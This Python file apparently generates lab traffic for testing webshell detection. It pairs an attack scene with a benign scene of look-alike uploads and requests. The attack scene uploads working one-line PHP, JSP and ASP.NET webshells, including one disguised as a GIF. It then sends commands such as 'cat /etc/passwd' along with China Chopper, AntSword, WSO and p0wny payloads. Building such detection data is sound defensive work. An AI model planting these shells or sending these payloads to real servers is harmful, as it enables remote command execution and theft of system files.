"""Webshells: uploads, use and answers, sent by curl to a stand-in server. The shells themselves are inert fragments."""

from .common import begin
from .scenes import scene
from .web import curl, reply, site

FORM = ["Content-Type: application/x-www-form-urlencoded"]


def upload(host, url, name, content, kind="application/octet-stream"):
    if isinstance(content, str):
        content = content.encode()
    body = b'------b\r\nContent-Disposition: form-data; name="file"; filename="' + name.encode() + b'"\r\nContent-Type: ' + kind.encode() + b"\r\n\r\n" + content + b"\r\n------b--\r\n"
    curl(host, url, body, headers=["Content-Type: multipart/form-data; boundary=----b"], agent="Mozilla/5.0 (X11; Linux x86_64)")


@scene("attacks-webshells")
def attacks(lab):
    """PHP, JSP and ASP.NET shells uploaded; China Chopper, AntSword, WSO, b374k, c99, p0wny used; what they answer"""
    intruder, web = lab.host("intruder", 66), lab.host("web", 20)
    site(web, 80, [(r"^GET .*=cat", reply(200, "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n", "text/plain")),
                   (r"^GET .*=id", reply(200, "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", "text/plain")),
                   (r"c99\.php", reply(200, "<html><head><title>web - c99shell</title></head><body>!C99Shell v. 1.0</body></html>")), (r"", reply(200, "<html>ok</html>"))])
    begin(lab)
    u = f"http://{web.ip}"
    upload(intruder, f"{u}/upload.php", "a.php", "<?php @eval($_POST['x']); ?>")
    upload(intruder, f"{u}/upload.php", "b1.php", "<?php system($_GET[0]); ?>")
    upload(intruder, f"{u}/upload.php", "b2.php", "<?php passthru($_REQUEST['c']); ?>")
    upload(intruder, f"{u}/upload.php", "a.jsp", '<%@page import="java.io.*"%><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>')
    upload(intruder, f"{u}/upload", "a.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>')
    upload(intruder, f"{u}/upload.php", "a.gif", b"GIF89a\x01\x00\x01\x00<?php phpinfo(); ?>", "image/gif")
    upload(intruder, f"{u}/upload.php", "b.php", '<?php $key="e45e329feb5d925b"; $post=file_get_contents("php://input"); /* inert */ ?>')
    upload(intruder, f"{u}/upload.php", "g.php", "<?php $pass='pass'; $key='3c6e0b8a9c15224a'; /* inert */ ?>")
    upload(intruder, f"{u}/upload.php", "holiday.php.jpg", "<?php phpinfo(); ?>", "image/jpeg")
    curl(intruder, f"{u}/uploads/a.php?cmd=id")
    curl(intruder, f"{u}/uploads/a.php?cmd=cat%20/etc/passwd")
    curl(intruder, f"{u}/uploads/b1.php?0=whoami")
    curl(intruder, f"{u}/uploads/chop.php", "x=%40eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw%3D%3D", headers=FORM)
    curl(intruder, f"{u}/uploads/a.php", 'x=%40ini_set(%22display_errors%22%2C%20%220%22)%3B%40set_time_limit(0)%3Becho%201%3B', headers=FORM, agent="antSword/v2.1")
    curl(intruder, f"{u}/uploads/wso.php", "a=Console&c=%2Fvar%2Fwww%2F&p1=id&p2=&p3=&charset=Windows-1251", headers=FORM)
    curl(intruder, f"{u}/uploads/p0wny.php?feature=shell", "cmd=id&cwd=%2Fvar%2Fwww", headers=FORM)
    curl(intruder, f"{u}/uploads/b374k.php", headers=["Cookie: b374k=0de664ecd2be02cdd54234a0d1229b43; cwd=%2Fvar"])
    curl(intruder, f"{u}/uploads/c99.php")


@scene("benign-webshells")
def benign(lab):
    """ordinary uploads (pictures, source code, archives), forms with the same parameter names, pages about the subject"""
    user, web = lab.host("user", 30), lab.host("web", 20)
    site(web, 80, [(r"^GET /id", reply(200, "<html><body><p>The command id prints uid=33(www-data) gid=33(www-data).</p></body></html>")),
                   (r"^GET /passwd", reply(200, "<html><pre>root:x:0:0:root:/root:/bin/bash</pre></html>")),
                   (r"^GET /c99", reply(200, "<html><head><title>The C99 standard and the shell</title></head></html>")), (r"", reply(200, "<html>ok</html>"))])
    begin(lab)
    u = f"http://{web.ip}"
    upload(user, f"{u}/upload.php", "holiday.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", "image/gif")
    upload(user, f"{u}/upload.php", "plugin.php", "<?php function page() { return htmlspecialchars($_POST['title']); } $sum = md5('e45e'); ?>", "text/x-php")
    upload(user, f"{u}/upload.php", "page2.php", "<?php $n = intval($_GET['n']); $q = trim($_REQUEST['q']); system_message($n); ?>", "text/x-php")
    upload(user, f"{u}/upload.php", "holiday.php.txt", "notes about <?php tags")
    upload(user, f"{u}/upload", "page.jsp", '<%@page import="java.util.*"%><%= request.getParameter("name") %>')
    upload(user, f"{u}/upload", "page.aspx", '<%@ Page Language="C#"%><%= Eval("Name") %> <%= Request["id"] %>')
    for path in ("/id", "/passwd", "/c99", "/list?cmd=next&c=12", "/api?exec=nightly&command=identify", "/shop?0=id7", "/search?q=whoamis", "/docs/whoami", "/?feature=shelling"):
        curl(user, u + path)
    curl(user, f"{u}/api?feature=shell")
    curl(user, f"{u}/form", "a=Consoles&c=12&p1=x", headers=FORM)
    curl(user, f"{u}/form", "text=%40eval+is+not+base64_decode&zip=z01", headers=FORM)
    curl(user, f"{u}/form", "setting=ini_set(display_errors)&value=0", headers=FORM)
    curl(user, f"{u}/", headers=["Cookie: session=0de664ecd2be02cd; cwd=home"], agent="Mozilla/5.0 (Swordfish)")
